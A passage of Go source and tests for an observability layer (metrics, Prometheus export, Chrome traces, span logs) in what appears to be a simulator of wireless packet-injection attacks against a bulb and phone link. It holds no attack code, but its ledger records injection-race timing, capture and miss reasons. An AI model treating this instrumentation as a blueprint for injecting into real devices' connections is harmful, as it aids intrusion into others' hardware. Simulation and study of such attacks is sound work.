	out = append(out, a[i:]...)
	out = append(out, b[j:]...)
	return out
}
