package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"sync"
	"time"
)

// Span is one timed operation in a cross-process job trace. The Trace id
// ties spans from different processes to one logical job: the serving
// layer uses the job's canonical spec hash, and a coordinator propagates
// its campaign-level hash to every worker over the X-Trace-Id header so
// a shard's dispatch on the coordinator and its execution on a worker
// share one id.
type Span struct {
	// Trace is the trace id (canonical spec hash; "" when untraced).
	Trace string `json:"trace,omitempty"`
	// Name is the operation ("dispatch", "stream", "validate", "merge",
	// "redispatch", "queue", "run", ...).
	Name string `json:"name"`
	// StartUS is the wall-clock start in Unix microseconds; DurUS the
	// duration in microseconds (0 for instant marks).
	StartUS int64 `json:"start_us"`
	DurUS   int64 `json:"dur_us"`
	// Args carry span-scoped detail (shard index, worker, status, ...).
	Args map[string]string `json:"args,omitempty"`
}

// NewSpan builds a completed span covering [start, now). Args are
// alternating key/value strings.
func NewSpan(trace, name string, start time.Time, kv ...string) Span {
	s := Span{
		Trace:   trace,
		Name:    name,
		StartUS: start.UnixMicro(),
		DurUS:   time.Since(start).Microseconds(),
	}
	if s.DurUS < 0 {
		s.DurUS = 0
	}
	if len(kv) > 0 {
		s.Args = make(map[string]string, len(kv)/2)
		for i := 0; i+1 < len(kv); i += 2 {
			s.Args[kv[i]] = kv[i+1]
		}
	}
	return s
}

// Mark builds an instant (zero-duration) span stamped now.
func Mark(trace, name string, kv ...string) Span {
	s := NewSpan(trace, name, time.Now(), kv...)
	s.DurUS = 0
	return s
}

// SpanLog is a bounded, concurrency-safe record of spans. When the
// bound is hit the oldest spans are dropped (the count is retained), so
// a long-lived daemon's trace surface stays a window over recent work.
// A nil *SpanLog is a no-op everywhere, matching the package's hub
// conventions.
type SpanLog struct {
	mu      sync.Mutex
	spans   []Span
	limit   int
	dropped int
}

// DefaultSpanLimit bounds a SpanLog constructed with limit 0.
const DefaultSpanLimit = 4096

// NewSpanLog returns a log keeping at most limit spans (0 = the
// default bound).
func NewSpanLog(limit int) *SpanLog {
	if limit <= 0 {
		limit = DefaultSpanLimit
	}
	return &SpanLog{limit: limit}
}

// Add appends a span, evicting the oldest beyond the bound.
func (l *SpanLog) Add(s Span) {
	if l == nil {
		return
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	if len(l.spans) >= l.limit {
		over := len(l.spans) - l.limit + 1
		l.spans = append(l.spans[:0], l.spans[over:]...)
		l.dropped += over
	}
	l.spans = append(l.spans, s)
}

// Snapshot returns a copy of the retained spans in insertion order.
func (l *SpanLog) Snapshot() []Span {
	if l == nil {
		return nil
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	out := make([]Span, len(l.spans))
	copy(out, l.spans)
	return out
}

// Dropped returns how many spans were evicted by the bound.
func (l *SpanLog) Dropped() int {
	if l == nil {
		return 0
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.dropped
}

// ProcessSpans is one process lane of a fleet trace: a process name
// ("coordinator", a worker URL) and the spans it recorded.
type ProcessSpans struct {
	Process string `json:"process"`
	Spans   []Span `json:"spans"`
}

// FilterTrace returns the subset of spans carrying the given trace id.
func FilterTrace(spans []Span, trace string) []Span {
	var out []Span
	for _, s := range spans {
		if s.Trace == trace {
			out = append(out, s)
		}
	}
	return out
}

// WriteFleetTrace renders spans gathered from several processes as one
// Chrome trace_event file: each process gets its own lane (pid), named
// via process_name metadata, and within a process spans with a "shard"
// arg fan out onto per-shard threads so concurrent shard work renders
// side by side instead of overlapping. Span timestamps are wall-clock
// Unix microseconds, so lanes from processes on one machine line up.
func WriteFleetTrace(w io.Writer, procs []ProcessSpans) error {
	trace := chromeTrace{DisplayTimeUnit: "ms", TraceEvents: []chromeEvent{}}
	for i, proc := range procs {
		pid := i + 1
		trace.TraceEvents = append(trace.TraceEvents, chromeEvent{
			Name: "process_name", Ph: "M", PID: pid, TID: 0,
			Args: map[string]string{"name": proc.Process},
		})
		tids := map[string]int{}
		tid := func(lane string) int {
			id, ok := tids[lane]
			if !ok {
				id = len(tids) + 1
				tids[lane] = id
				trace.TraceEvents = append(trace.TraceEvents, chromeEvent{
					Name: "thread_name", Ph: "M", PID: pid, TID: id,
					Args: map[string]string{"name": lane},
				})
			}
			return id
		}
		spans := append([]Span{}, proc.Spans...)
		sort.SliceStable(spans, func(a, b int) bool { return spans[a].StartUS < spans[b].StartUS })
		for _, s := range spans {
			lane := "main"
			if shard, ok := s.Args["shard"]; ok {
				lane = "shard " + shard
			}
			args := make(map[string]string, len(s.Args)+1)
			for k, v := range s.Args {
				args[k] = v
			}
			if s.Trace != "" {
				args["trace"] = s.Trace
			}
			ce := chromeEvent{
				Name: s.Name, PID: pid, TID: tid(lane),
				TS: float64(s.StartUS), Args: args,
			}
			if s.DurUS > 0 {
				ce.Ph, ce.Dur = "X", float64(s.DurUS)
			} else {
				ce.Ph, ce.S = "i", "t"
			}
			trace.TraceEvents = append(trace.TraceEvents, ce)
		}
	}
	return json.NewEncoder(w).Encode(trace)
}

// SpanArg formats a span arg value (ints are the common case).
func SpanArg(v int) string { return fmt.Sprintf("%d", v) }
