package obs

import (
	"reflect"
	"testing"
)

func snapOf(build func(r *Registry)) *Snapshot {
	r := NewRegistry()
	build(r)
	return r.Snapshot()
}

// TestMergeMismatchedHistogramBounds: when two snapshots hold the same
// histogram under different bucket layouts, the merge keeps the
// receiver's buckets untouched but still folds the exact aggregates
// (count/sum/min/max), so quantile clamping stays correct fleet-wide
// even across daemons running different bucket configurations.
func TestMergeMismatchedHistogramBounds(t *testing.T) {
	a := snapOf(func(r *Registry) {
		h := r.Histogram("lat", []float64{1, 2, 4})
		h.Observe(1)
		h.Observe(3)
	})
	b := snapOf(func(r *Registry) {
		h := r.Histogram("lat", []float64{10, 20})
		h.Observe(15)
		h.Observe(0.5)
	})
	wantCounts := append([]int64{}, a.Histograms[0].Counts...)

	a.Merge(b)
	h := a.Histograms[0]
	if !reflect.DeepEqual(h.Counts, wantCounts) {
		t.Errorf("mismatched-bounds merge changed buckets: %v -> %v", wantCounts, h.Counts)
	}
	if !reflect.DeepEqual(h.Bounds, []float64{1, 2, 4}) {
		t.Errorf("merge replaced bounds: %v", h.Bounds)
	}
	if h.Count != 4 || h.Sum != 19.5 {
		t.Errorf("aggregates not merged: count=%d sum=%v", h.Count, h.Sum)
	}
	if h.Min != 0.5 || h.Max != 15 {
		t.Errorf("min/max not merged: min=%v max=%v", h.Min, h.Max)
	}
}

// TestMergeDisjointInstruments: instruments unique to either side are
// all kept, and the result stays name-sorted (the property the
// deterministic exports and the prom encoder rely on).
func TestMergeDisjointInstruments(t *testing.T) {
	a := snapOf(func(r *Registry) {
		r.Counter("fabric.shards_completed").Add(3)
		r.Gauge("fabric.shards_planned").Set(6)
		r.Histogram("fabric.shard_latency_ms", []float64{1, 2}).Observe(1)
	})
	b := snapOf(func(r *Registry) {
		r.Counter("serve.jobs_done").Add(5)
		r.Gauge("serve.queue_depth").Set(0)
		r.Histogram("serve.job_e2e_ms", []float64{1, 2}).Observe(2)
	})
	a.Merge(b)
	if len(a.Counters) != 2 || len(a.Gauges) != 2 || len(a.Histograms) != 2 {
		t.Fatalf("disjoint merge dropped instruments: %+v", a)
	}
	for i := 1; i < len(a.Counters); i++ {
		if a.Counters[i-1].Name >= a.Counters[i].Name {
			t.Errorf("counters unsorted after merge: %q >= %q", a.Counters[i-1].Name, a.Counters[i].Name)
		}
	}
	for i := 1; i < len(a.Histograms); i++ {
		if a.Histograms[i-1].Name >= a.Histograms[i].Name {
			t.Errorf("histograms unsorted after merge: %q >= %q", a.Histograms[i-1].Name, a.Histograms[i].Name)
		}
	}
}

// TestMergeEmptyHistogramSides: an empty histogram on either side must
// not poison min/max (the empty side carries no observed range).
func TestMergeEmptyHistogramSides(t *testing.T) {
	full := func() *Snapshot {
		return snapOf(func(r *Registry) {
			h := r.Histogram("h", []float64{1})
			h.Observe(0.5)
			h.Observe(7)
		})
	}
	empty := func() *Snapshot {
		return snapOf(func(r *Registry) { r.Histogram("h", []float64{1}) })
	}

	a := full()
	a.Merge(empty())
	if h := a.Histograms[0]; h.Count != 2 || h.Min != 0.5 || h.Max != 7 {
		t.Errorf("full+empty: %+v", h)
	}
	b := empty()
	b.Merge(full())
	if h := b.Histograms[0]; h.Count != 2 || h.Min != 0.5 || h.Max != 7 {
		t.Errorf("empty+full: %+v", h)
	}
}

// TestMergeIsSumOfWorkers models the coordinator aggregation contract:
// merging N worker snapshots into an empty fleet snapshot yields, for
// every counter, the sum of the workers' values, independent of merge
// order for counters and histograms.
func TestMergeIsSumOfWorkers(t *testing.T) {
	w1 := snapOf(func(r *Registry) {
		r.Counter("serve.jobs_done").Add(2)
		r.Counter("serve.cache_hits").Add(1)
		r.Histogram("serve.job_e2e_ms", []float64{1, 2, 4}).Observe(1.5)
	})
	w2 := snapOf(func(r *Registry) {
		r.Counter("serve.jobs_done").Add(4)
		r.Histogram("serve.job_e2e_ms", []float64{1, 2, 4}).Observe(3)
	})

	fleet := &Snapshot{}
	fleet.Merge(w1)
	fleet.Merge(w2)

	want := map[string]int64{"serve.cache_hits": 1, "serve.jobs_done": 6}
	for _, c := range fleet.Counters {
		if c.Value != want[c.Name] {
			t.Errorf("fleet %s = %d, want %d", c.Name, c.Value, want[c.Name])
		}
	}
	if h := fleet.Histograms[0]; h.Count != 2 || !reflect.DeepEqual(h.Counts, []int64{0, 1, 1, 0}) {
		t.Errorf("fleet histogram: %+v", h)
	}

	// Reverse order must agree on everything except gauge semantics.
	rev := &Snapshot{}
	rev.Merge(w2)
	rev.Merge(w1)
	if !reflect.DeepEqual(rev.Counters, fleet.Counters) || !reflect.DeepEqual(rev.Histograms, fleet.Histograms) {
		t.Error("counter/histogram merge is order-dependent")
	}
}
