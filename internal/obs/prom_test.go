package obs

import (
	"bytes"
	"math"
	"strings"
	"testing"
)

// TestWritePromTextGolden pins the exact exposition bytes for a registry
// exercising every instrument kind, inline labels, value escaping and
// name sanitization. The layout is deterministic because the snapshot is
// name-sorted; any byte change here is a wire-format change.
func TestWritePromTextGolden(t *testing.T) {
	r := NewRegistry()
	r.Counter("serve.jobs_admitted").Add(7)
	r.Counter(`serve.http_errors{code="400"}`).Add(2)
	r.Counter(`serve.http_errors{code="429"}`).Add(5)
	r.Counter(`weird.path{p="a\"b\\c\nd"}`).Add(1)
	r.Counter("9starts.with-digit").Add(3)
	r.Gauge("serve.queue_depth").Set(4)
	r.Gauge("sim.temp_c").Set(-12.5)
	h := r.Histogram("serve.job_e2e_ms", []float64{1, 2, 4})
	for _, v := range []float64{0.5, 1.5, 3, 9} {
		h.Observe(v)
	}

	var buf bytes.Buffer
	if err := WritePromText(&buf, r.Snapshot()); err != nil {
		t.Fatal(err)
	}
	want := `# TYPE _9starts_with_digit counter
_9starts_with_digit 3
# TYPE serve_http_errors counter
serve_http_errors{code="400"} 2
serve_http_errors{code="429"} 5
# TYPE serve_jobs_admitted counter
serve_jobs_admitted 7
# TYPE weird_path counter
weird_path{p="a\"b\\c\nd"} 1
# TYPE serve_queue_depth gauge
serve_queue_depth 4
# TYPE sim_temp_c gauge
sim_temp_c -12.5
# TYPE serve_job_e2e_ms histogram
serve_job_e2e_ms_bucket{le="1"} 1
serve_job_e2e_ms_bucket{le="2"} 2
serve_job_e2e_ms_bucket{le="4"} 3
serve_job_e2e_ms_bucket{le="+Inf"} 4
serve_job_e2e_ms_sum 14
serve_job_e2e_ms_count 4
`
	if got := buf.String(); got != want {
		t.Errorf("exposition mismatch:\n--- got ---\n%s\n--- want ---\n%s", got, want)
	}

	// The strict parser must accept our own output (round trip), and the
	// escaped label value must unescape to the original.
	fams, err := ParsePromText(buf.Bytes())
	if err != nil {
		t.Fatalf("own exposition rejected: %v", err)
	}
	if got := len(fams); got != 7 {
		t.Errorf("parsed %d families, want 7", got)
	}
	wp := fams["weird_path"]
	if wp == nil || len(wp.Samples) != 1 {
		t.Fatalf("weird_path family missing: %+v", wp)
	}
	if got := wp.Samples[0].Label("p"); got != "a\"b\\c\nd" {
		t.Errorf("label round trip: %q", got)
	}
	hist := fams["serve_job_e2e_ms"]
	if hist == nil || hist.Type != "histogram" {
		t.Fatalf("histogram family missing: %+v", hist)
	}
}

// TestWritePromTextEmpty renders an empty snapshot as zero bytes.
func TestWritePromTextEmpty(t *testing.T) {
	var buf bytes.Buffer
	if err := WritePromText(&buf, &Snapshot{}); err != nil {
		t.Fatal(err)
	}
	if buf.Len() != 0 {
		t.Errorf("empty snapshot rendered %q", buf.String())
	}
}

// TestWritePromTextFamilyCollision rejects two instruments whose names
// collide on one family with different types after sanitization.
func TestWritePromTextFamilyCollision(t *testing.T) {
	r := NewRegistry()
	r.Counter("a.b").Inc()
	r.Gauge("a_b").Set(1)
	if err := WritePromText(&bytes.Buffer{}, r.Snapshot()); err == nil {
		t.Fatal("counter/gauge family collision not rejected")
	}
}

// TestParsePromTextRejects covers the strict parser's validation: each
// input violates exactly one invariant and must fail with a message
// naming the problem.
func TestParsePromTextRejects(t *testing.T) {
	cases := []struct {
		name, in, wantErr string
	}{
		{"sample outside TYPE", "a 1\n", "outside"},
		{"duplicate family", "# TYPE a counter\na 1\n# TYPE a counter\n", "twice"},
		{"duplicate series", "# TYPE a counter\na 1\na 2\n", "duplicate series"},
		{"negative counter", "# TYPE a counter\na -1\n", "negative"},
		{"bad metric name", "# TYPE a-b counter\n", "invalid metric name"},
		{"bad label name", `# TYPE a counter` + "\n" + `a{0x="y"} 1` + "\n", "label"},
		{"bad escape", `# TYPE a counter` + "\n" + `a{x="\q"} 1` + "\n", "escape"},
		{"unterminated labels", `# TYPE a counter` + "\n" + `a{x="y" 1` + "\n", "label"},
		{"bad value", "# TYPE a gauge\na pony\n", "unparsable"},
		{"trailing field", "# TYPE a gauge\na 1 2\n", "malformed value"},
		{"unknown type", "# TYPE a flummox\n", "unknown metric type"},
		{"histogram no +Inf", "# TYPE h histogram\n" +
			`h_bucket{le="1"} 1` + "\nh_sum 1\nh_count 1\n", "+Inf"},
		{"histogram non-cumulative", "# TYPE h histogram\n" +
			`h_bucket{le="1"} 5` + "\n" + `h_bucket{le="2"} 3` + "\n" +
			`h_bucket{le="+Inf"} 5` + "\nh_sum 1\nh_count 5\n", "non-cumulative"},
		{"histogram count mismatch", "# TYPE h histogram\n" +
			`h_bucket{le="+Inf"} 5` + "\nh_sum 1\nh_count 4\n", "_count"},
		{"histogram missing sum", "# TYPE h histogram\n" +
			`h_bucket{le="+Inf"} 5` + "\nh_count 5\n", "_sum"},
		{"histogram stray series", "# TYPE h histogram\nh_extra 1\n", "outside"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := ParsePromText([]byte(tc.in))
			if err == nil {
				t.Fatalf("accepted invalid input %q", tc.in)
			}
			if !strings.Contains(err.Error(), tc.wantErr) {
				t.Errorf("error %q does not mention %q", err, tc.wantErr)
			}
		})
	}
}

// TestParsePromTextAcceptsHelp allows HELP and comment lines, Inf/NaN
// gauge values, and an untyped family.
func TestParsePromTextAccepts(t *testing.T) {
	in := "# HELP g a gauge of little consequence\n" +
		"# just a comment\n" +
		"# TYPE g gauge\ng +Inf\n" +
		"# TYPE u untyped\nu NaN\n"
	fams, err := ParsePromText([]byte(in))
	if err != nil {
		t.Fatal(err)
	}
	if !math.IsInf(fams["g"].Samples[0].Value, 1) {
		t.Errorf("gauge +Inf parsed as %v", fams["g"].Samples[0].Value)
	}
	if !math.IsNaN(fams["u"].Samples[0].Value) {
		t.Errorf("untyped NaN parsed as %v", fams["u"].Samples[0].Value)
	}
}

// TestPromHistogramCumulativeMonotone renders a histogram whose raw
// per-bucket counts are wildly uneven and checks the exposition's
// cumulative buckets never decrease — the invariant scrapers depend on
// for rate() over le series.
func TestPromHistogramCumulativeMonotone(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("m", []float64{1, 2, 3, 4, 5})
	for i := 0; i < 100; i++ {
		h.Observe(float64(i % 7))
	}
	var buf bytes.Buffer
	if err := WritePromText(&buf, r.Snapshot()); err != nil {
		t.Fatal(err)
	}
	if _, err := ParsePromText(buf.Bytes()); err != nil {
		t.Fatalf("cumulative rendering rejected: %v", err)
	}
}
