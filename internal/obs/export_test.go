package obs

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"injectable/internal/sim"
)

func exportFixture() (*Snapshot, *Ledger) {
	r := NewRegistry()
	r.Counter("inject.attempts").Add(2)
	r.Gauge("inject.anchor_jitter_ewma_us").Set(1.25)
	h := r.Histogram("inject.margin_us", LinearBuckets(-10, 5, 30))
	for _, v := range []float64{3, 7, 12} {
		h.Observe(v)
	}
	l := NewLedger()
	driveAttempt(l, AttemptEnd{Outcome: "success", SlaveResponded: true, ResponseValid: true})
	return r.Snapshot(), l
}

func TestWriteMetricsJSONL(t *testing.T) {
	snap, led := exportFixture()
	var b bytes.Buffer
	if err := WriteMetricsJSONL(&b, snap, led); err != nil {
		t.Fatal(err)
	}
	kinds := map[string]int{}
	for _, line := range strings.Split(strings.TrimSpace(b.String()), "\n") {
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("line is not valid JSON: %q: %v", line, err)
		}
		kinds[m["kind"].(string)]++
		switch m["kind"] {
		case "counter":
			if m["name"] == "inject.attempts" && m["value"].(float64) != 2 {
				t.Fatalf("counter line = %v", m)
			}
		case "histogram":
			if m["count"].(float64) != 3 || m["p50"] == nil {
				t.Fatalf("histogram line = %v", m)
			}
		case "injection":
			rec := m["record"].(map[string]any)
			if rec["outcome"] != "success" || rec["attempt"].(float64) != 1 {
				t.Fatalf("injection line = %v", rec)
			}
		}
	}
	want := map[string]int{"counter": 1, "gauge": 1, "histogram": 1, "injection": 1}
	for k, n := range want {
		if kinds[k] != n {
			t.Fatalf("kinds = %v, want %v", kinds, want)
		}
	}

	// Byte-identical on re-export of the same inputs.
	var b2 bytes.Buffer
	if err := WriteMetricsJSONL(&b2, snap, led); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(b.Bytes(), b2.Bytes()) {
		t.Fatalf("re-export differs")
	}

	// Nil snapshot and nil ledger are valid (empty export).
	var b3 bytes.Buffer
	if err := WriteMetricsJSONL(&b3, nil, nil); err != nil {
		t.Fatal(err)
	}
	if b3.Len() != 0 {
		t.Fatalf("nil export wrote %q", b3.String())
	}
}

func TestWriteChromeTrace(t *testing.T) {
	events := []sim.TraceEvent{
		{At: sim.Time(100 * sim.Microsecond), Source: "attacker", Kind: "tx-start",
			Fields: []sim.Field{sim.F("end", sim.Time(250*sim.Microsecond))}},
		{At: sim.Time(90 * sim.Microsecond), Source: "bulb", Kind: "win-open",
			Fields: []sim.Field{sim.F("width", "150µs")}},
		{At: sim.Time(300 * sim.Microsecond), Source: "bulb", Kind: "anchor"},
	}
	_, led := exportFixture()

	var b bytes.Buffer
	if err := WriteChromeTrace(&b, events, 7, led); err != nil {
		t.Fatal(err)
	}
	var trace struct {
		TraceEvents []struct {
			Name string            `json:"name"`
			Ph   string            `json:"ph"`
			TS   float64           `json:"ts"`
			Dur  float64           `json:"dur"`
			TID  int               `json:"tid"`
			S    string            `json:"s"`
			Args map[string]string `json:"args"`
		} `json:"traceEvents"`
		DisplayTimeUnit string            `json:"displayTimeUnit"`
		OtherData       map[string]string `json:"otherData"`
	}
	if err := json.Unmarshal(b.Bytes(), &trace); err != nil {
		t.Fatalf("trace is not valid JSON: %v", err)
	}
	if trace.DisplayTimeUnit != "ms" {
		t.Fatalf("displayTimeUnit = %q", trace.DisplayTimeUnit)
	}
	if trace.OtherData["droppedEvents"] != "7" {
		t.Fatalf("otherData = %v", trace.OtherData)
	}

	byName := map[string][]int{}
	threads := map[string]bool{}
	for i, e := range trace.TraceEvents {
		byName[e.Name] = append(byName[e.Name], i)
		if e.Ph == "M" && e.Name == "thread_name" {
			threads[e.Args["name"]] = true
		}
	}
	for _, want := range []string{"attacker", "bulb", "injection-ledger"} {
		if !threads[want] {
			t.Fatalf("missing thread_name %q (have %v)", want, threads)
		}
	}

	tx := trace.TraceEvents[byName["tx-start"][0]]
	if tx.Ph != "X" || tx.TS != 100 || tx.Dur != 150 {
		t.Fatalf("tx-start event = %+v, want X slice ts=100 dur=150", tx)
	}
	win := trace.TraceEvents[byName["win-open"][0]]
	if win.Ph != "X" || win.Dur != 150 {
		t.Fatalf("win-open event = %+v, want X slice dur=150 (parsed width)", win)
	}
	anchor := trace.TraceEvents[byName["anchor"][0]]
	if anchor.Ph != "i" || anchor.S != "t" {
		t.Fatalf("anchor event = %+v, want thread-scoped instant", anchor)
	}
	ledger := trace.TraceEvents[byName["success"][0]]
	if ledger.Ph != "X" || ledger.TS != 1000 || ledger.Dur != 176 {
		t.Fatalf("ledger slice = %+v, want ts=1000 dur=176", ledger)
	}
	if ledger.Args["attempt"] != "1" || ledger.Args["crc"] != "ok" {
		t.Fatalf("ledger args = %v", ledger.Args)
	}

	// No dropped events → no otherData key at all.
	var b2 bytes.Buffer
	if err := WriteChromeTrace(&b2, nil, 0, nil); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b2.String(), "droppedEvents") {
		t.Fatalf("empty trace advertises drops: %s", b2.String())
	}
}
