package obs

// Absorb folds another registry's instruments into this one: counters
// add, gauges adopt the source value when the source was ever set, and
// histograms merge raw buckets, counts, sums and extrema. Instruments
// missing here are created (histograms with the source's bounds).
// Fork-based trial execution runs each trial against a private hub and
// absorbs it into the runner-issued sink at trial end, so the sink's
// snapshot is indistinguishable from having run the trial there
// directly. Absorbing a nil source or into a nil registry is a no-op.
func (r *Registry) Absorb(src *Registry) {
	if r == nil || src == nil {
		return
	}
	src.mu.Lock()
	counters := make(map[string]int64, len(src.counters))
	for name, c := range src.counters {
		counters[name] = c.Value()
	}
	type gaugeVal struct {
		v   float64
		set bool
	}
	gauges := make(map[string]gaugeVal, len(src.gauges))
	for name, g := range src.gauges {
		gauges[name] = gaugeVal{v: g.Value(), set: g.set.Load()}
	}
	hists := make(map[string]HistogramSnapshot, len(src.hists))
	for name, h := range src.hists {
		hists[name] = h.snapshot(name)
	}
	src.mu.Unlock()

	for name, v := range counters {
		r.Counter(name).Add(v)
	}
	for name, g := range gauges {
		if g.set {
			r.Gauge(name).Set(g.v)
		}
	}
	for name, s := range hists {
		h := r.Histogram(name, s.Bounds)
		if h == nil || len(h.buckets) != len(s.Counts) {
			continue
		}
		for i, n := range s.Counts {
			h.buckets[i].Add(n)
		}
		h.count.Add(s.Count)
		h.sum.add(s.Sum)
		if s.Count > 0 {
			h.min.storeMin(s.Min)
			h.max.storeMax(s.Max)
		}
	}
}

// Absorb appends the source ledger's completed records (and carries over
// its latest per-device windows, keeping window correlation seamless for
// attempts recorded after the absorb). A dangling open attempt in the
// source is dropped — close it with Abort first.
func (l *Ledger) Absorb(src *Ledger) {
	if l == nil || src == nil {
		return
	}
	l.records = append(l.records, src.records...)
	for _, w := range src.windows {
		l.LinkWindowOpen(w.Device, w.Event, w.Channel, w.OpenAt, w.Width)
	}
}

// Absorb folds the source hub's registry, ledger and span log into this
// hub. Nil hubs on either side are no-ops.
func (h *Hub) Absorb(src *Hub) {
	if h == nil || src == nil {
		return
	}
	h.Reg().Absorb(src.Reg())
	h.Led().Absorb(src.Led())
	if h.SpanLog != nil && src.SpanLog != nil {
		for _, s := range src.SpanLog.Snapshot() {
			h.SpanLog.Add(s)
		}
	}
}
