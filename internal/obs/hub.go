package obs

import "sort"

// Hub bundles the per-run metrics registry, forensics ledger and span
// log. A nil *Hub is valid everywhere a Hub is plumbed: Reg(), Led() and
// Spans() return nil receivers whose methods are no-ops, so instrumented
// layers never need an observability-enabled check.
type Hub struct {
	Registry *Registry
	Ledger   *Ledger
	SpanLog  *SpanLog
}

// NewHub returns a hub with a fresh registry, ledger and span log.
func NewHub() *Hub {
	return &Hub{Registry: NewRegistry(), Ledger: NewLedger(), SpanLog: NewSpanLog(0)}
}

// Reg returns the registry (nil when the hub is nil).
func (h *Hub) Reg() *Registry {
	if h == nil {
		return nil
	}
	return h.Registry
}

// Led returns the ledger (nil when the hub is nil).
func (h *Hub) Led() *Ledger {
	if h == nil {
		return nil
	}
	return h.Ledger
}

// Spans returns the span log (nil when the hub is nil).
func (h *Hub) Spans() *SpanLog {
	if h == nil {
		return nil
	}
	return h.SpanLog
}

// Snapshot captures the registry (empty snapshot when the hub is nil).
func (h *Hub) Snapshot() *Snapshot { return h.Reg().Snapshot() }

// BeginAttempt opens a forensics entry for an injection attempt.
func (h *Hub) BeginAttempt(s AttemptStart) {
	if h == nil {
		return
	}
	h.Ledger.BeginAttempt(s)
	h.Registry.Histogram("inject.lead_us", LinearBuckets(2, 2, 25)).Observe(dus(s.Lead))
	h.Registry.Histogram("inject.widening_est_us", LinearBuckets(2, 2, 25)).Observe(dus(s.WideningEst))
}

// EndAttempt closes the forensics entry and folds the attempt into the
// injection metrics (attempts, hits, per-reason misses, timing margin,
// SINR). anchorJitterUS is the sniffer's smoothed master anchor jitter.
func (h *Hub) EndAttempt(end AttemptEnd, anchorJitterUS float64) *InjectionRecord {
	if h == nil {
		return nil
	}
	rec := h.Ledger.EndAttempt(end)
	r := h.Registry
	r.Counter("inject.attempts").Inc()
	r.Gauge("inject.anchor_jitter_ewma_us").Set(anchorJitterUS)
	if rec == nil {
		return nil
	}
	if rec.Outcome == "success" {
		r.Counter("inject.hits").Inc()
	} else {
		r.Counter("inject.miss." + rec.MissReason).Inc()
	}
	if rec.WindowSeen {
		r.Histogram("inject.margin_us", LinearBuckets(-10, 5, 30)).Observe(rec.TimingMarginUS)
	}
	if rec.MasterSeen {
		r.Histogram("inject.sinr_db", LinearBuckets(-30, 2, 31)).Observe(rec.SINRdB)
	}
	return rec
}

// AbortAttempt closes a dangling entry (connection lost mid-race).
func (h *Hub) AbortAttempt(outcome string) {
	if h == nil {
		return
	}
	h.Ledger.Abort(outcome)
}

// sortedKeys returns a map's keys in sorted order.
func sortedKeys(m map[string]int) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}
