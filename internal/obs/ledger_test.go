package obs

import (
	"bytes"
	"strings"
	"testing"

	"injectable/internal/sim"
)

// driveAttempt scripts one injection race through the ledger: the slave
// opens its widened window, the attacker fires, the slave locks and the
// master's competing frame starts mid-air.
func driveAttempt(l *Ledger, end AttemptEnd) *InjectionRecord {
	txStart := sim.Time(1000 * sim.Microsecond)
	txEnd := txStart.Add(176 * sim.Microsecond)
	l.LinkWindowOpen("bulb", 42, 7, txStart.Add(-30*sim.Microsecond), 60*sim.Microsecond)
	l.BeginAttempt(AttemptStart{
		Attempt: 1, Event: 42, Channel: 7,
		TxStart: txStart, TxEnd: txEnd,
		Lead: 12 * sim.Microsecond, WideningEst: 30 * sim.Microsecond,
	})
	l.MediumTx("attacker", 7, txStart, txEnd, false)
	l.MediumTx("phone", 7, txStart.Add(20*sim.Microsecond), txEnd.Add(20*sim.Microsecond), false)
	l.MediumLock("bulb", "attacker", txStart, -60)
	l.MediumDeliver("bulb", "attacker", txStart, -60, true, 3.5, false)
	l.LinkAnchor("bulb", 42, txStart)
	return l.EndAttempt(end)
}

func TestLedgerCorrelatesOneAttempt(t *testing.T) {
	l := NewLedger()
	l.SetRSSIProbe(func(from, to string, ch uint8) (float64, bool) {
		if from == "phone" && to == "bulb" && ch == 7 {
			return -70, true
		}
		return 0, false
	})
	rec := driveAttempt(l, AttemptEnd{Outcome: "success", SlaveResponded: true, ResponseValid: true})
	if rec == nil {
		t.Fatal("EndAttempt returned nil")
	}
	if !rec.WindowSeen || rec.WindowDevice != "bulb" {
		t.Fatalf("window not correlated: %+v", rec)
	}
	if rec.TimingMarginUS != 30 {
		t.Fatalf("timing margin = %v µs, want 30 (tx 30 µs after open)", rec.TimingMarginUS)
	}
	if rec.WindowWidthUS != 60 {
		t.Fatalf("window width = %v µs, want 60", rec.WindowWidthUS)
	}
	if !rec.Captured || rec.CapturedBy != "bulb" || rec.AttackerRSSI != -60 {
		t.Fatalf("capture not correlated: %+v", rec)
	}
	if !rec.Collided || rec.MinSIRdB != 3.5 || rec.CRCState != CRCStateOK {
		t.Fatalf("collision state wrong: %+v", rec)
	}
	if !rec.MasterSeen || rec.MasterSource != "phone" {
		t.Fatalf("master frame not correlated: %+v", rec)
	}
	if rec.MasterRSSI != -70 || rec.SINRdB != 10 {
		t.Fatalf("SINR = %v (master %v), want +10 dB", rec.SINRdB, rec.MasterRSSI)
	}
	if !rec.AnchorAdopted {
		t.Fatalf("anchor adoption missed: %+v", rec)
	}
	if rec.MissReason != "" {
		t.Fatalf("success has miss reason %q", rec.MissReason)
	}
}

func TestLedgerMissReasons(t *testing.T) {
	cases := []struct {
		name    string
		mutate  func(rec *InjectionRecord)
		outcome string
		want    string
	}{
		{"master wins race", nil, "timing-mismatch", "master-won-race"},
		{"seq desync", nil, "seq-mismatch", "sequence-desync"},
		{"corrupted seq", func(r *InjectionRecord) { r.CRCState = CRCStateCorrupted }, "seq-mismatch", "collision-corrupted"},
		{"no window", func(r *InjectionRecord) { r.WindowSeen = false }, "no-response", "no-window-observed"},
		{"early fire", func(r *InjectionRecord) { r.WindowSeen = true; r.TimingMarginUS = -4 }, "no-response", "fired-before-window-open"},
		{"late fire", func(r *InjectionRecord) {
			r.WindowSeen = true
			r.TimingMarginUS = 80
			r.WindowWidthUS = 60
		}, "no-response", "fired-after-window-close"},
		{"not captured", func(r *InjectionRecord) {
			r.WindowSeen = true
			r.TimingMarginUS = 10
			r.WindowWidthUS = 60
			r.Captured = false
			r.CRCState = CRCStateNotCaptured
		}, "no-response", "not-captured"},
	}
	for _, tc := range cases {
		rec := InjectionRecord{
